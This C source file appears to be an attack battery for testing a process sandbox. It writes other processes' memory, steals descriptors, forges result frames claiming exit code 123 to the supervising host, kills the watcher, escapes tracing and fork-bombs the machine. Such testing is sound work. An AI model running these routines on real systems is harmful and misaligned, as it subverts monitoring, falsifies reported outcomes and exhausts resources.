// Attacks on processes outside, and on the process that watches us.
#include "attack.h"
#include <dirent.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>

static pid_t target(void) { return (pid_t)aimNumber("PID"); }

static const char overwritten[] = "overwritten by an attack";

static void ptraceAttach(void) {
  pid_t pid = target();
  if (tell("ptrace attach", ptrace(PTRACE_ATTACH, pid, 0, 0)) < 0) return;
  waitpid(pid, 0, __WALL);
  tell("ptrace poke", ptrace(PTRACE_POKEDATA, pid, (void *)aimNumber("ADDR"), *(const long *)overwritten));
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void ptraceSeize(void) {
  if (tell("ptrace seize", ptrace(PTRACE_SEIZE, target(), 0, 0)) < 0) return;
  ptrace(PTRACE_INTERRUPT, target(), 0, 0);
  waitpid(target(), 0, __WALL);
  ptrace(PTRACE_POKEDATA, target(), (void *)aimNumber("ADDR"), *(const long *)overwritten);
  ptrace(PTRACE_DETACH, target(), 0, 0);
}

static void vmWrite(void) {
  struct iovec local = {(void *)overwritten, sizeof overwritten}, remote = {(void *)aimNumber("ADDR"), sizeof overwritten};
  tell("process_vm_writev", process_vm_writev(target(), &local, 1, &remote, 1, 0));
}

static void procMemory(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", target());
  int fd = open(path, O_RDWR);
  if (tell("open memory", fd) >= 0) tell("write memory", pwrite(fd, overwritten, sizeof overwritten, aimNumber("ADDR")));
}

static void stealDescriptor(void) {
  char bytes[64];
  int pidfd = (int)syscall(SYS_pidfd_open, target(), 0);
  if (tell("pidfd_open", pidfd) < 0) return;
  int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)aimNumber("PIPE_FD"), 0);
  if (tell("pidfd_getfd", fd) >= 0) tell("read the pipe of another", read(fd, bytes, sizeof bytes));
}

static void signals(void) {
  pid_t pid = target();
  siginfo_t info = {.si_code = SI_QUEUE, .si_signo = SIGUSR1};
  tell("kill", kill(pid, SIGUSR1));
  tell("tkill", syscall(SYS_tkill, pid, SIGUSR2));
  tell("tgkill", syscall(SYS_tgkill, pid, pid, SIGWINCH));
  tell("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, pid, SIGUSR1, &info));
  tell("rt_tgsigqueueinfo", syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGUSR1, &info));
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pidfd >= 0) tell("pidfd_send_signal", syscall(SYS_pidfd_send_signal, pidfd, SIGUSR1, 0, 0));
  union sigval value = {0};
  tell("sigqueue", sigqueue(pid, SIGRTMIN, value));
}

static void killGroup(void) {
  // SIGURG is ignored where nobody asked for it: the only signal that may be sent to everybody without harm.
  tell("kill everybody", kill(-1, SIGURG));
  tell("kill the group of the target", kill(-getpgid(target()), SIGURG));
}

// A descriptor can send signals on behalf of us: SIGIO to whoever owns it.
static void ownedSignal(void) {
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return;
  tell("F_SETSIG", fcntl(pair[0], F_SETSIG, SIGUSR1));
  tell("F_SETOWN", fcntl(pair[0], F_SETOWN, target()));
  fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
  tell("write", write(pair[1], "x", 1));
  usleep(20000);
}

static void prioritiesOfOthers(void) {
  pid_t pid = target();
  struct sched_param parameter = {0};
  struct rlimit limit = {1 << 20, 1 << 20};
  cpu_set_t cpus;
  CPU_ZERO(&cpus);
  CPU_SET(0, &cpus);
  tell("setpriority", setpriority(PRIO_PROCESS, (id_t)pid, 7));
  tell("sched_setscheduler", sched_setscheduler(pid, SCHED_BATCH, &parameter));
  tell("sched_setaffinity", sched_setaffinity(pid, sizeof cpus, &cpus));
  tell("ioprio_set", syscall(SYS_ioprio_set, 1, pid, (2 << 13) | 6));
  tell("prlimit", prlimit(pid, RLIMIT_CORE, &limit, 0));
  tell("setpriority of the user", setpriority(PRIO_USER, getuid(), 3));
}

static void writeProc(const char *file, const char *text) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", target(), file);
  int fd = open(path, O_WRONLY);
  if (fd < 0) { tell(file, -1); return; }
  tell(file, write(fd, text, strlen(text)));
  close(fd);
}

static void procSettings(void) {
  writeProc("oom_score_adj", "77");
  writeProc("coredump_filter", "0x7");
  writeProc("timerslack_ns", "77777");
  writeProc("autogroup", "5");
  writeProc("comm", "attacked");
}

// ---- the watcher ----

static pid_t watchers[3];

static int findWatchers(void) {
  char path[64], line[256];
  int count = 0, tracer = 0;
  FILE *status = fopen("/proc/self/status", "re");
  while (status && fgets(line, sizeof line, status))
    if (sscanf(line, "TracerPid: %d", &tracer) == 1 && tracer) watchers[count++] = tracer;
  if (status) fclose(status);
  if (tracer != 1) watchers[count++] = 1;
  snprintf(path, sizeof path, "/proc/%d/status", getppid());
  if (getppid() != tracer && getppid() > 1) watchers[count++] = getppid();
  return count;
}

// A FINISHED frame as the host would read it; it claims exit code 123.
static const unsigned char forged[39] = {34, 0, 0, 0, 73, 1, 123};

static void forgeFrames(void) {
  char path[64];
  for (int fd = 3; fd < 4096; fd++) if (write(fd, forged, sizeof forged) > 0) printf("HIT descriptor %d\n", fd);
  for (int index = 0, count = findWatchers(); index < count; index++) {
    int pidfd = (int)syscall(SYS_pidfd_open, watchers[index], 0);
    for (int fd = 0; fd < 300; fd++) {
      int copy = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (copy >= 0 && write(copy, forged, sizeof forged) > 0) printf("HIT pidfd_getfd %d of %d\n", fd, watchers[index]);
      snprintf(path, sizeof path, "/proc/%d/fd/%d", watchers[index], fd);
      copy = open(path, O_WRONLY | O_NONBLOCK);
      if (copy >= 0 && watchers[index] != getppid() && write(copy, forged, sizeof forged) > 0) printf("HIT %s\n", path);
      copy = open(path, O_RDONLY | O_NONBLOCK); // The requests of the host wait there.
      if (copy >= 0 && watchers[index] != getppid()) { char byte; if (read(copy, &byte, 1) > 0) printf("HIT read %s\n", path); }
    }
  }
  fflush(stdout);
}

static void writeWatcher(void) {
  char path[64], zero[16] = {0};
  for (int index = 0, count = findWatchers(); index < count; index++) {
    if (watchers[index] == getppid() && index > 0) continue; // The shell is not a watcher.
    struct iovec local = {zero, sizeof zero}, remote = {(void *)0x400000, sizeof zero};
    tell("watcher's memory by process_vm_writev", process_vm_writev(watchers[index], &local, 1, &remote, 1, 0));
    tell("watcher by ptrace", ptrace(PTRACE_SEIZE, watchers[index], 0, 0));
    snprintf(path, sizeof path, "/proc/%d/mem", watchers[index]);
    tell("watcher's memory by file", open(path, O_RDWR));
    snprintf(path, sizeof path, "/proc/%d/maps", watchers[index]);
    int maps = open(path, O_RDONLY);
    tell("watcher's map of memory", maps < 0 ? -1 : read(maps, zero, sizeof zero) - 1);
  }
}

static void killWatcher(void) {
  for (int index = 0, count = findWatchers(); index < count; index++) {
    if (watchers[index] == getppid() && index > 0) continue;
    tell("stop the watcher", kill(watchers[index], SIGSTOP));
    tell("end the watcher", kill(watchers[index], SIGTERM));
    tell("kill the watcher", kill(watchers[index], SIGKILL));
    struct rlimit limit = {0, 0};
    tell("limit the watcher", prlimit(watchers[index], RLIMIT_NOFILE, &limit, 0));
  }
  usleep(50000);
  puts("still here");
}

static void escapeTracing(void) {
  struct clone_args arguments = {.flags = CLONE_UNTRACED, .exit_signal = SIGCHLD};
  long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
  if (pid == 0) { execl(aim("EVIL"), "attack", (char *)0); _exit(1); }
  tell("clone3 untraced", pid);
  pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) { execl(aim("EVIL"), "attack", (char *)0); _exit(1); }
  tell("clone untraced", pid);
  pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) { usleep(1000); _exit(0); }
  tell("clone with the parent's parent", pid);
  while (wait(0) > 0) {}
}

static void traceMe(void) {
  tell("PTRACE_TRACEME", ptrace(PTRACE_TRACEME, 0, 0, 0));
}

static void vforkExec(void) {
  for (volatile int round = 0; round < 20; round++) {
    pid_t pid = vfork();
    if (pid == 0) { execl("/bin/true", "true", (char *)0); _exit(1); }
    waitpid(pid, 0, 0);
  }
  tell("vfork and exec", 0);
}

static void forkBomb(void) {
  for (;;) if (fork() < 0) usleep(1000);
}

static void threadStorm(void) {
  int started = 0;
  for (; started < 100000; started++) {
    pid_t pid = fork();
    if (pid == 0) pause();
    if (pid < 0) break;
  }
  tell("processes", started);
}

const struct attack processAttacks[] = {
  {"ptraceAttach", ptraceAttach}, {"ptraceSeize", ptraceSeize}, {"vmWrite", vmWrite}, {"procMemory", procMemory}, {"stealDescriptor", stealDescriptor},
  {"signals", signals}, {"killGroup", killGroup}, {"ownedSignal", ownedSignal}, {"prioritiesOfOthers", prioritiesOfOthers},
  {"procSettings", procSettings}, {"forgeFrames", forgeFrames}, {"writeWatcher", writeWatcher}, {"killWatcher", killWatcher},
  {"escapeTracing", escapeTracing}, {"traceMe", traceMe}, {"vforkExec", vforkExec}, {"forkBomb", forkBomb}, {"threadStorm", threadStorm}, {0, 0},
};
